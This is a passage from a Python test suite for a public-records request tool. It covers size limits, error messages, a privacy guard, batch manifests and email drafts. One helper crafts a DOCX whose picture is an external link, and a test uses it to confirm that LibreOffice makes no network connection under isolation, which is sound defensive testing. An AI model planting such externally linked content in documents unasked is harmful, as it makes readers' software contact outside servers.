        isolated = subprocess.run([*prefix, sys.executable, "-c", _CONNECT, port], check=False)
    assert reachable.returncode == 0
    assert isolated.returncode == 3


def _document_showing_a_linked_picture(url: str) -> bytes:
    """A letter whose first paragraph shows a picture LibreOffice fetches from ``url``."""
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="952500" cy="952500"/>'
        '<wp:docPr id="99" name="x"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" name="x.png"/><pic:cNvPicPr/>'
        '</pic:nvPicPr><pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships" r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    out = io.BytesIO()
    with zipfile.ZipFile(FROZEN_TEMPLATES / "request.docx") as old, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info.filename)
            if info.filename == "word/document.xml":
                xml = data.decode("utf-8")
                start = xml.index("<w:body>") + len("<w:body>")
                data = (xml[:start] + drawing + xml[start:]).encode("utf-8")
            if info.filename == "word/_rels/document.xml.rels":
                data = data.decode("utf-8").replace("</Relationships>", (
                    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                    f'officeDocument/2006/relationships/image" Target="{url}" '
                    'TargetMode="External"/></Relationships>')).encode("utf-8")
            new.writestr(info, data)
    return out.getvalue()


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None and shutil.which("libreoffice") is None,
                    reason="LibreOffice is not installed (CI installs it)")
def test_libreoffice_attempts_no_connection_even_past_the_link_check(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Defect 10, with the link check switched off to test the second wall: LibreOffice
    fetches a linked picture from a server on this machine when it may (the control run), and
    attempts no connection under recordskit's network isolation."""
    from recordskit.documents.rendering import pdf

    if not pdf.network_isolation():
        pytest.skip("user namespaces are off here; outside links are refused regardless")
    monkeypatch.setattr(pdf, "package_problem", lambda data: None)

    def connections_during_conversion(isolation: tuple[str, ...]) -> int:
        monkeypatch.setattr(pdf, "network_isolation", lambda: isolation)
        with socket.create_server(("127.0.0.1", 0)) as server:
            server.settimeout(0.2)
            url = f"http://127.0.0.1:{server.getsockname()[1]}/x.png"
            document = _document_showing_a_linked_picture(url)
            with ThreadPoolExecutor(1) as pool:
                conversion = pool.submit(pdf.to_pdf, {"letter.docx": document})
                accepted = 0
                while not conversion.done():
                    try:
                        server.accept()[0].close()
                        accepted += 1
                    except TimeoutError:
                        pass
                assert conversion.result()["letter.pdf"].startswith(b"%PDF")
        return accepted

    isolation = pdf.network_isolation()
    assert connections_during_conversion(()) > 0  # the control: LibreOffice does reach out
    assert connections_during_conversion(isolation) == 0


# 14. and 22. Size limits: nothing is silently cut, nothing huge is read.
def test_an_answer_over_the_text_limit_is_refused(directory: Directory,
                                                  answers: Answers) -> None:
    with pytest.raises(InputFileError, match="over the limit of 20,000 characters"):
        request_from(answers(other_records="x" * 11_000_000), directory)


def test_an_answers_file_over_its_limit_is_refused_unread(tmp_path: Path,
                                                          directory: Directory) -> None:
    path = tmp_path / "a.yaml"
    path.write_bytes(b"other_records: '" + b"x" * 3_000_000 + b"'\n")
    with pytest.raises(InputFileError, match=r"over the limit of 2,000,000 bytes.*"
                                             r"RECORDSKIT_MAX_INPUT_BYTES"):
        load_answers(path, directory)
    with pytest.raises(InputFileError, match="is not a regular file"):
        load_answers(Path("/dev/zero"), directory)


# 16. Tracebacks become clear errors.
def test_clear_errors_instead_of_tracebacks(tmp_path: Path) -> None:
    rows = tmp_path / "rows.yaml"
    rows.write_text("- {1: bps, agency: bps}\n")
    checked = invoke("batch", str(rows), "--check")
    assert checked.exit_code == 1 and "expected a mapping of answers" in checked.output
    edited = invoke("agencies", "edit", "bps", str(FROZEN_AGENCIES), "--set", "delivery=[email")
    assert edited.exit_code == 1 and "the list is not closed" in edited.output


# 18. The privacy guard.
def test_the_privacy_guard_sees_through_invisible_characters(directory: Directory,
                                                             answers: Answers) -> None:
    request = request_from(answers(other_records="Records about undocu\u200bmented students",
                                   requester__name="Ana, A-123-456-789",
                                   requester__mailing_address="c/o asylum office"), directory)
    kinds = {(f.field, f.kind) for f in personal_details(request)}
    assert ("other_records", "immigration_status") in kinds
    assert ("requester.name", "a_number") in kinds
    assert ("requester.mailing_address", "immigration_status") in kinds


# 19. Id prefixes are ids, not patterns; 20. keys given twice.
@pytest.mark.parametrize("prefix", ["%%%%", "____", "12%4"])
def test_an_id_prefix_is_never_a_pattern(tmp_path: Path, answers: Answers, prefix: str) -> None:
    path = tmp_path / "a.yaml"
    path.write_text(yaml.safe_dump(answers()))
    assert invoke("new", "--answers", str(path), "--out", str(tmp_path / "o")).exit_code == 0
    shown = invoke("show", prefix)
    assert shown.exit_code == 1 and "is not an id" in shown.output


def test_keys_given_twice_in_an_answers_file_are_refused(tmp_path: Path,
                                                         directory: Directory) -> None:
    path = tmp_path / "a.yaml"
    path.write_text("agency: bps\nagency: bpd\n")
    with pytest.raises(InputFileError, match=r"a.yaml:2:1: agency: the key 'agency' is given "
                                             r"twice here"):
        load_answers(path, directory)


# 15. A changed row without --force keeps its place in the manifest and the calendar.
def test_a_changed_row_stays_in_the_manifest_and_calendar(tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    header = "row_id,agency,records,requester.email,delivery,sent_on\n"
    rows.write_text(header + "a,bps,school-police-reports-shared-with-bric,a@b.org,email,"
                    "2026-11-23\nb,bps,school-police-reports-shared-with-bric,b@b.org,email,"
                    "2026-11-23\n")
    out = tmp_path / "out"
    assert invoke("batch", str(rows), "--out", str(out)).exit_code == 0
    calendar = (out / "calendar.ics").read_text()
    rows.write_text(header + "a,bps,school-police-reports-shared-with-bric,a@b.org,email,"
                    "2026-11-24\nb,bps,school-police-reports-shared-with-bric,b@b.org,email,"
                    "2026-11-23\n")
    again = invoke("batch", str(rows), "--out", str(out))
    assert again.exit_code == 1 and "changed since" in again.output
    manifest = list(csv.DictReader((out / "manifest.csv").open(newline="")))
    assert [m["row_id"] for m in manifest] == ["a", "b"]
    assert manifest[0]["response_due"] == "2026-12-08"  # still the folder's own letter
    assert (out / "calendar.ics").read_text() == calendar


def test_a_drafts_text_from_the_rendered_letter_is_the_text_read_back_from_it(
        directory: Directory, answers: Answers) -> None:
    # The batch gives the draft the letter's body as rendered, so that it need not read the
    # DOCX back: the draft must be the one made from the DOCX itself.
    from recordskit.deadlines.schedule import request_schedule
    from recordskit.documents.contexts.letter import letter_context
    from recordskit.documents.make import REQUEST_TEMPLATE
    from recordskit.documents.rendering.render import template
    from recordskit.service import stamp
    from tests.conftest import FROZEN_TEMPLATES

    request = request_from(answers(requester__name="O'Brien \"&\" <b> Família",
                                   other_records="Line one\nLine two\twith a tab & <more>"),
                           directory)
    rendered = template(REQUEST_TEMPLATE, FROZEN_TEMPLATES).render_document(
        letter_context(request, directory, request_schedule(request, directory)),
        stamp("Public records request", REQUEST_TEMPLATE))
    agency = directory.agency("bps")
    given = email_draft(request, agency, rendered.docx, "Subject",
                        letter_xml=rendered.document_xml)
    read_back = email_draft(request, agency, rendered.docx, "Subject")
    assert given is not None and read_back is not None
    assert _MESSAGE_ID.sub(b"", given) == _MESSAGE_ID.sub(b"", read_back)
    body = email.message_from_bytes(given, policy=email.policy.default).get_body(("plain",))
    assert body is not None
    text = body.get_content()
    assert "Line one Line two with a tab & <more>." in text
    assert "O'Brien \"&\" <b> Família" in text
